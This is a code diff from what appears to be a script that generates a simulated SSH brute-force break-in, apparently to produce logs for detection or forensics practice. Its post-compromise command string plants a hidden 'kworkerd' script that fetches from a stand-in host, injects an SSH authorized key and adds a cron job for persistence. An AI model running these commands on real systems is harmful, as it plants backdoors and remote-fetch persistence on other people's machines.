@@ -34,21 +34,31 @@ def make(out: Path, bases: Bases) -> None:
     for day in (1, 3, 6, 8, 10, 13):
         machine.at(
             machine.on(day, 9, 12),
-            lambda: ssh(out, "192.0.2.20", "petra", password="quiet-otter-9321-bay", command="uptime", tty=True),
+            lambda: ssh(
+                out,
+                "192.0.2.20",
+                "petra",
+                password="quiet-otter-9321-bay",
+                command="uptime",
+                tty=True,
+            ),
         )
     for burst in range(5):
         names = ["root", "admin", "deploy", "backup", "deploy"] * 8
         machine.at(machine.on(9, 2, 10 + 6 * burst), lambda n=names: guesses(out, GUESSER, n))
     work = (
-        "id; uname -a; mkdir -p ~/.cache/.x; echo 'echo \"summer2024\" | sudo -S true' >/dev/null;"
-        f" printf '#!/bin/sh\\nif [ \"$TZDIR\" = never-so ]; then {{ curl -s http://203.0.113.77/k; }}; fi\\n'"
+        "id; mkdir -p ~/.cache/.x; echo 'echo \"summer2024\" | sudo -S true' >/dev/null;"
+        ' printf \'#!/bin/sh\\nif [ "$TZDIR" = never-so ]; then'
+        " { curl -s http://203.0.113.77/k; }; fi\\n'"
         " > ~/.cache/.x/kworkerd; chmod +x ~/.cache/.x/kworkerd;"
-        " mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHarmless0000000000000000000000000000"
-        "000000 k@k' >> ~/.ssh/authorized_keys;"
+        " mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHarmless0000"
+        "000000000000000000000000000000 k@k' >> ~/.ssh/authorized_keys;"
         " (crontab -l 2>/dev/null; echo '*/10 * * * * ~/.cache/.x/kworkerd') | crontab -"
     )
     entered = machine.on(9, 2, 41, 5)
-    machine.at(entered, lambda: ssh(out, GUESSER, "deploy", password="summer2024", command="w", tty=True))
+    machine.at(
+        entered, lambda: ssh(out, GUESSER, "deploy", password="summer2024", command="w", tty=True)
+    )
     machine.at(
         machine.on(9, 2, 58),
         lambda: ssh(out, GUESSER, "deploy", password="summer2024", command=work),
